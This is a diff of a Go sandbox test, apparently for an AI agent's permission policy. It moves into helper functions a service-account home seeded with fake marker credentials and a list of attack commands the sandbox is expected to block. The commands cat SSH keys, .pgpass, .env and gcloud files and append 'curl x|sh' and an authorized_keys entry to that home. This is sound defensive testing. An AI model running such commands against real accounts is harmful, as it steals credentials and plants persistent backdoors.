@@ -29,31 +29,7 @@ func TestOtherAccountsHomesOtherUser(t *testing.T) {
 	other := testenv.StartOtherUser(t)
 	agent := otherUserAgent(t)
 	base, home, inv := otherUserScratch(t, "agent-accounts-")
-	svcBase := openDir(t, "agent-svc-")
-	svcHome := filepath.Join(svcBase, "svc")
-	for name, content := range map[string]string{
-		".pgpass": "db:5432:*:app:m4rker-pgpass\n", ".ssh/id_ed25519": "m4rker-sshkey\n", "server.key": "m4rker-key\n",
-		".psql_history": "\\password m4rker-hist\n", "notes.txt": "benign-notes\n", ".bashrc": "# benign-rc\n",
-		"app/.env": "PASSWORD=m4rker-env\n", ".config/gcloud/credentials.db": "m4rker-gcloud\n", // below the top (session 15)
-	} {
-		p := filepath.Join(svcHome, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, []byte(content), 0o666); err != nil {
-			t.Fatal(err)
-		}
-	}
-	svc := testenv.StartServiceAccount(t, svcHome)
-	svc.Own(t, svcHome)
-	// Readable and writable by all: the misconfiguration the modes alone
-	// would not hold (umask aside).
-	filepath.Walk(svcHome, func(p string, fi os.FileInfo, err error) error {
-		if err == nil {
-			os.Chmod(p, map[bool]os.FileMode{true: 0o777, false: 0o666}[fi.IsDir()])
-		}
-		return err
-	})
+	svcHome := serviceHome(t, "agent-svc-")
 	// The forced level: agent-run in a bin directory the policy trusts.
 	bed := filepath.Join(base, "bed")
 	if err := os.Mkdir(bed, 0o755); err != nil {
@@ -94,9 +70,7 @@ func TestOtherAccountsHomesOtherUser(t *testing.T) {
 			t.Errorf("%s read another account's secret:\n%.800s", what, out)
 		}
 	}
-	reads := []string{"cat " + svcHome + "/.pgpass", "cat " + svcHome + "/.ssh/id_ed25519", "cat " + svcHome + "/server.key",
-		"tail " + svcHome + "/.psql_history", "grep -r m4r[k]er " + svcHome, "cat " + svcHome + "/app/.env",
-		"cat " + svcHome + "/.config/gcloud/credentials.db"}
+	reads, writes, benign := serviceAttacks(svcHome)
 	// The classifier, by default.
 	write("high")
 	for _, cmd := range reads {
@@ -118,16 +92,59 @@ func TestOtherAccountsHomesOtherUser(t *testing.T) {
 			leaked(level+" (kernel): "+cmd, out)
 		}
 		if level == "medium" {
-			for _, cmd := range []string{"echo 'curl x|sh' >> " + svcHome + "/.bashrc", "echo x > " + svcHome + "/.profile",
-				"mkdir -p " + svcHome + "/.ssh && echo key >> " + svcHome + "/.ssh/authorized_keys", "ln -s /tmp " + svcHome + "/.config"} {
+			for _, cmd := range writes {
 				out, _ := run(append(args, "--", script(cmd))...)
 				leaked(level+" (kernel): "+cmd, out)
 			}
 		}
-		out, code := run(append(args, "--", script("cat "+svcHome+"/notes.txt "+svcHome+"/.bashrc && ls -a "+svcHome))...)
+		out, code := run(append(args, "--", script(benign))...)
 		if code != 0 || !strings.Contains(out, "benign-notes") || !strings.Contains(out, "benign-rc") || !strings.Contains(out, ".pgpass") {
 			t.Errorf("%s: the account's ordinary files: exit %d:\n%.800s", level, code, out)
 		}
 	}
 	corpustest.Same(t, "another account's home after the attacks", before, corpustest.Tree(t, svcHome))
+}
+
+// serviceHome makes a service account (testenv.StartServiceAccount) whose
+// home, in a scratch directory named after prefix, holds credentials at
+// its top and below it (.config/gcloud, app/.env: session 15) beside
+// ordinary files, every entry readable and writable by all: the
+// misconfiguration the modes alone would not hold.
+func serviceHome(t *testing.T, prefix string) string {
+	t.Helper()
+	svcHome := filepath.Join(openDir(t, prefix), "svc")
+	for name, content := range map[string]string{
+		".pgpass": "db:5432:*:app:m4rker-pgpass\n", ".ssh/id_ed25519": "m4rker-sshkey\n", "server.key": "m4rker-key\n",
+		".psql_history": "\\password m4rker-hist\n", "notes.txt": "benign-notes\n", ".bashrc": "# benign-rc\n",
+		"app/.env": "PASSWORD=m4rker-env\n", ".config/gcloud/credentials.db": "m4rker-gcloud\n",
+	} {
+		p := filepath.Join(svcHome, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o666); err != nil {
+			t.Fatal(err)
+		}
+	}
+	svc := testenv.StartServiceAccount(t, svcHome)
+	svc.Own(t, svcHome)
+	filepath.Walk(svcHome, func(p string, fi os.FileInfo, err error) error {
+		if err == nil {
+			os.Chmod(p, map[bool]os.FileMode{true: 0o777, false: 0o666}[fi.IsDir()])
+		}
+		return err
+	})
+	return svcHome
+}
+
+// serviceAttacks are the commands run against serviceHome's home: reads
+// of its secrets (none may show "m4rker"), writes of its dot-files (at
+// medium; none may change it), and a benign read of its ordinary files.
+func serviceAttacks(svcHome string) (reads, writes []string, benign string) {
+	reads = []string{"cat " + svcHome + "/.pgpass", "cat " + svcHome + "/.ssh/id_ed25519", "cat " + svcHome + "/server.key",
+		"tail " + svcHome + "/.psql_history", "grep -r m4r[k]er " + svcHome, "cat " + svcHome + "/app/.env",
+		"cat " + svcHome + "/.config/gcloud/credentials.db"}
+	writes = []string{"echo 'curl x|sh' >> " + svcHome + "/.bashrc", "echo x > " + svcHome + "/.profile",
+		"mkdir -p " + svcHome + "/.ssh && echo key >> " + svcHome + "/.ssh/authorized_keys", "ln -s /tmp " + svcHome + "/.config"}
+	return reads, writes, "cat " + svcHome + "/notes.txt " + svcHome + "/.bashrc && ls -a " + svcHome
 }
